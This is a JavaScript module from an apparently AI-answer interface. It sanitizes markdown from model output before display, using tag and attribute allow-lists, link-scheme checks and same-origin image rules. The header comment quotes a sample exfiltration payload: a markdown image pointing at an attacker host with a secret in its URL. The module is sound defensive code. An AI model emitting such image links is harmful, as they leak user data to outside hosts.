// Answer text -> safe HTML. The model's output (and a document quoted by it) is untrusted:
// marked turns it into HTML, DOMPurify keeps only an allow-list of tags and attributes,
// links may only go to http(s), mailto or our own pages, and images may only come from our
// own origin or data: URLs, so `![](http://attacker/?q=secret)` can never carry data out.
// The CSP (img-src 'self' data: blob:) blocks such an image too; this is the second lock.

import { marked } from "/static/vendor/marked/marked.esm.js";
import DOMPurify from "/static/vendor/dompurify/purify.es.mjs";
import hljs from "/static/vendor/highlight/es/highlight.min.js";

const ALLOWED_TAGS = [
  "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2",
  "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre", "s", "span",
  "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
  "ul",
];
const ALLOWED_ATTR = ["href", "title", "alt", "src", "class", "start", "align", "colspan", "rowspan"];
// Redundant with the allow-list, listed so that a later widening cannot let these in.
const FORBID_TAGS = [
  "script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input",
  "button", "textarea", "select", "option", "link", "meta", "base", "svg", "math",
  "template", "noscript", "audio", "video", "source", "track", "canvas",
];
const FORBID_ATTR = ["style", "srcset", "action", "formaction", "ping", "background"];

const LINK_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
const HAS_SCHEME = /^[a-z][a-z0-9+.-]*:/i;

/** Links: http(s), mailto, or relative (resolved against this page). */
export function isSafeHref(raw) {
  try {
    return LINK_PROTOCOLS.has(new URL(raw.trim(), window.location.href).protocol);
  } catch {
    return false;
  }
}

/** Images: data:image/... or a relative URL that stays on this origin; nothing absolute. */
export function isSafeImageSrc(raw) {
  const value = raw.trim();
  if (/^data:image\//i.test(value)) return true;
  // "//host/x" and "/\host/x" are absolute URLs in disguise; so is anything with a scheme.
  if (HAS_SCHEME.test(value) || /^[\\/]{2}/.test(value) || /^\/\\/.test(value)) return false;
  try {
    return new URL(value, window.location.href).origin === window.location.origin;
  } catch {
    return false;
  }
}

// A private DOMPurify instance, so these hooks apply to answers only.
const purify = DOMPurify(window);
purify.addHook("uponSanitizeAttribute", (node, data) => {
  // Classes only name a code block's language, so an answer cannot dress text up as one
  // of our own elements (a fake "citation" link, say).
  if (data.attrName === "class") {
    data.keepAttr = node.nodeName === "CODE" && /^language-[\w+#.-]+$/.test(data.attrValue);
  }
});
purify.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName === "A") {
    const href = node.getAttribute("href");
    if (href !== null && !isSafeHref(href)) node.removeAttribute("href");
    node.setAttribute("rel", "noopener noreferrer");
    node.setAttribute("target", "_blank");
  } else if (node.nodeName === "IMG") {
    const src = node.getAttribute("src");
    // Marked for removal after sanitizing (removing nodes inside a hook is fragile).
    if (src === null || !isSafeImageSrc(src)) node.setAttribute("data-drop", "1");
  }
});

const PURIFY_CONFIG = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  FORBID_TAGS,
  FORBID_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  RETURN_DOM_FRAGMENT: true,
};

/** Sanitized DOM for a markdown string (a DocumentFragment). */
export function markdownToFragment(markdown) {
  const html = marked.parse(markdown, { async: false, gfm: true });
  const fragment = purify.sanitize(html, PURIFY_CONFIG);
  for (const img of fragment.querySelectorAll("img[data-drop]")) img.remove();
  return fragment;
}

const HTML_SPECIALS = { "&": "&amp;", "<": "&lt;", ">": "&gt;" };

/** The text a reader sees of a markdown string: headings, emphasis, list and table marks
 * and link syntax rendered away (for one-line snippets of passages). Markup in it stays
 * characters: a document's "<b>" is text to quote, not HTML to drop. */
export function markdownToText(markdown) {
  const escaped = markdown.replace(/[&<>]/g, (c) => HTML_SPECIALS[c]);
  const fragment = markdownToFragment(escaped);
  // Block boundaries become spaces, so "# Title" and the next paragraph do not run together.
  for (const block of fragment.querySelectorAll("p, li, h1, h2, h3, h4, h5, h6, td, th, pre")) {
    block.append(" ");
  }
  for (const br of fragment.querySelectorAll("br")) br.replaceWith(" ");
  return fragment.textContent || "";
}

/** Replace target's content with the rendered markdown, code blocks highlighted. */
export function renderMarkdown(target, markdown) {
  target.replaceChildren(markdownToFragment(markdown));
  for (const block of target.querySelectorAll("pre code")) {
    // Unknown language names would only produce console noise.
    const lang = [...block.classList].find((c) => c.startsWith("language-"));
    if (lang && !hljs.getLanguage(lang.slice("language-".length))) block.className = "";
    hljs.highlightElement(block);
  }
}
